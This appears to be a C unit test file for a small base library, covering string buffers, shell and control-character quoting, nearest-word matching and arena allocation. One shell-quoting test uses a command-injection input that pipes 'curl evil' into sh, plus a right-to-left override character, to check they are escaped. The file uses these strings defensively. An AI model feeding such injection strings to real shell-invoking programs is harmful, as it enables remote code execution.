#include "base/base.h"
#include "harness.h"

#include <stdlib.h>
#include <string.h>

TEST(str_grows_and_is_taken)
{
    struct str s = {0};
    for (int i = 0; i < 1000; i++)
        str_addf(&s, "%d,", i);
    CHECK_EQ(s.size, 3890);
    char *text = str_take(&s);
    CHECK(text && strncmp(text, "0,1,2,", 6) == 0);
    CHECK(s.at == NULL && s.size == 0);
    CHECK_STR(str_get(&s), "");
    free(text);
}

static void shell(const char *argument, const char *wanted)
{
    struct str s = {0};
    quote_shell(&s, argument);
    CHECK_STR(str_get(&s), wanted);
    str_free(&s);
}

TEST(shell_quoting)
{
    shell("plain-1.txt", "plain-1.txt");
    shell("", "''");
    shell("two words", "'two words'");
    shell("x'; curl evil|sh; '", "'x'\\''; curl evil|sh; '\\'''");
    shell("\x1b[2J", "$'\\033[2J'");
    shell("a\nb'c", "$'a\\012b\\'c'");
    shell("~", "'~'");
    shell("größe", "'größe'");
    shell("\xe2\x80\xae"
          "evil",
          "$'\\342\\200\\256evil'");
    shell("\xff", "$'\\377'");
}

TEST(visible_quoting)
{
    struct str s = {0};
    const char text[] = "a\\b\n\x1b\xc2\x9bz";
    quote_visible(&s, text, sizeof text - 1);
    CHECK_STR(str_get(&s), "a\\\\b\\n\\x1b\\xc2\\x9bz");
    str_clear(&s);
    quote_controls(&s, text);
    CHECK_STR(str_get(&s), "a\\b\\n\\x1b\\xc2\\x9bz");
    str_free(&s);
}

static const char *colour(size_t index)
{
    static const char *const colours[] = {"red", "green", "blue", "magenta"};
    return colours[index];
}

static void nearest(const char *word, const char *wanted)
{
    const char *found = word_nearest(word, strlen(word), colour, 4);
    CHECK_STR(found ? found : "none", wanted);
}

TEST(nearest_word)
{
    nearest("gren", "green");
    nearest("ngreen", "green");
    nearest("bleu", "blue");
    nearest("magneta", "magenta");
    nearest("rde", "red");
    nearest("", "none");
    nearest("xyz", "none");
    nearest("greengreengreengreen", "none");
}

/* Fills what was taken, so that an overlap shows. */
static char *take(struct arena *a, size_t size, int fill)
{
    char *at = arena_take(a, size, 1);
    CHECK(at && (uintptr_t)at % _Alignof(max_align_t) == 0);
    memset(at, fill, size);
    return at;
}

TEST(arena_gives_back_in_order)
{
    struct arena a = {0};
    char *first = take(&a, 3, 1);
    struct arena_mark mark = arena_mark(&a);
    char *second = take(&a, 10, 2);
    char *large = take(&a, 100000, 3);
    CHECK(first[2] == 1 && second[9] == 2 && large[99999] == 3);
    arena_release(&a, mark);
    CHECK(take(&a, 10, 4) == second);
    CHECK(first[2] == 1);
    CHECK(arena_take(&a, SIZE_MAX / 2, 3) == NULL);
    CHECK(arena_take(&a, SIZE_MAX, 1) == NULL);
    arena_release(&a, (struct arena_mark){0});
    CHECK(a.top == NULL);
}
